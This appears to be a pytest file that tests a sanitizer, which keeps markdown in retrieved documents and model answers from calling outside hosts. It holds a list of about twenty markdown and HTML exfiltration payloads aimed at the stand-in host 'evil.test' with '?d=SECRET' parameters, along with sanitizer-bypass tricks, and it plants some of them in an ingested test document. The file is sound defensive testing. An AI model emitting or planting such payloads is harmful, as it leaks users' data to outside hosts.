"""Markdown from documents and the model renders inert (finding 4 of the hardening
review): no image, no HTML, no link or bare host outside the allowlist, in any field."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from app.pipeline.output_safety import is_inert, sanitize
from ui.render import plain, safe_markdown, source_label

ALLOWED = ["handbook.example.com"]
BYPASSES = {
    "brackets in image text": "![[x]](//evil.test/p.png?d=SECRET)",
    "escaped brackets": "\\[x\\](https://evil.test/?d=SECRET)",
    "reference image": "![x][r]\n\n[r]: //evil.test/p.png?d=SECRET",
    "reference link": "[click][r]\n\n[r]: https://evil.test/?d=SECRET",
    "space before the url": "![x]( https://evil.test/p.png?d=SECRET)",
    "bare www host": "see www.evil.test/?d=SECRET for more",
    "bare url": "go to https://evil.test/?d=SECRET now",
    "autolink": "<https://evil.test/?d=SECRET>",
    "html image": '<img src="https://evil.test/p.png?d=SECRET">',
    "inline html": 'a <a href="https://evil.test">b</a> c',
    "title in angle brackets": "![x](<https://evil.test/p .png>)",
    "nested link in image": "[![x](https://evil.test/p.png)](https://handbook.example.com/ok)",
    "protocol relative": "[x](//evil.test/a)",
    "subdomain lookalike": "[x](https://handbook.example.com.evil.test/a)",
    "uppercase scheme": "[x](HTTPS://EVIL.TEST/a)",
    "nested past the parser's depth": ">" * 21 + " ![x](https://evil.test/p.png?d=SECRET)",
    "deep list after a paragraph": "intro\n" + "- " * 11 + "![x](https://evil.test/p.png)",
    "url after an underscore": "a_https://evil.test/x?d=SECRET",
    "www after an underscore": "_www.evil.test/x?d=SECRET",
    "a lone reference definition": "[r]: https://evil.test/p.png?d=SECRET",
}


@pytest.mark.unit
def test_a_url_python_cannot_parse_is_removed_not_a_crash() -> None:
    out = sanitize("Log in at https://[your-team].evil.test/login", ALLOWED)
    assert "evil" not in out and is_inert(out, ALLOWED)


@pytest.mark.unit
@pytest.mark.parametrize("name", sorted(BYPASSES))
def test_every_known_bypass_renders_inert(name: str) -> None:
    out = sanitize(BYPASSES[name], ALLOWED)
    assert is_inert(out, ALLOWED), out
    assert "evil.test" not in out.lower().replace("\\", "")
    ui = safe_markdown(BYPASSES[name], tuple(ALLOWED))
    assert is_inert(ui, ALLOWED) and "evil.test" not in ui.lower().replace("\\", "")


@pytest.mark.unit
def test_allowed_links_and_plain_prose_pass_unchanged() -> None:
    prose = "Employees get $50 a month (for internet) [1]. See the policy: 3 * 2 = 6."
    assert sanitize(prose, ALLOWED) == prose
    link = "[Travel policy](https://handbook.example.com/travel)"
    assert sanitize(link, ALLOWED) == link
    assert sanitize("a [b](https://evil.test) c", ALLOWED) == "a b c"


@pytest.mark.unit
def test_labels_are_plain_text_whatever_the_title() -> None:
    label = source_label(
        {"n": 1, "title": "](https://evil.test) ![x](//evil.test/p.png)", "path": "p.md"}
    )
    assert is_inert(label) and "[1\\]" in plain("[1]")


@pytest.mark.integration
def test_every_field_of_an_answer_is_inert(small_service: Any, tmp_path: Path) -> None:
    root = tmp_path / "docs"
    root.mkdir()
    (root / "travel.md").write_text(
        "---\ntitle: 'Travel ![t](https://evil.test/title.png)'\n---\n"
        "# Booking ![s](https://evil.test/section.png)\n\n"
        "Book flights through the travel portal ![x](https://evil.test/p.png?d=SECRET) at least "
        "two weeks ahead. Questions go to www.evil.test or <img src=https://evil.test/i.png>.\n"
    )
    svc = small_service(ingest={"roots": [tmp_path]})
    with svc.client("alice") as c:
        loaded = c.post("/v1/admin/ingest", json={"paths": [str(root)], "groups": "everyone"})
        assert loaded.json()["added"] == 1
        answer = c.post("/v1/ask", json={"question": "How do I book flights?"}).json()
        chunks = c.post("/v1/retrieve", json={"query": "book flights", "top_k": 3}).json()
    assert answer["citations"] or answer["closest_sources"]
    texts: list[str] = []

    def collect(value: Any) -> None:
        if isinstance(value, str):
            texts.append(value)
        elif isinstance(value, dict):
            for v in value.values():
                collect(v)
        elif isinstance(value, list):
            for v in value:
                collect(v)

    collect(answer)
    collect(chunks)
    assert all(is_inert(t) for t in texts), [t for t in texts if not is_inert(t)]
    assert "evil.test" not in json.dumps([answer, chunks]).replace("\\\\", "")


@pytest.mark.unit
@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("costs $5 and $6", r"costs \$5 and \$6"),
        ("a \\\\$x$ b", "a \\\\\\$x\\$ b"),  # an escaped backslash does not escape the $
        ("already \\$ ok", "already \\$ ok"),
    ],
)
def test_no_dollar_sign_reaches_streamlit_as_latex(text: str, shown: str) -> None:
    assert safe_markdown(text) == shown
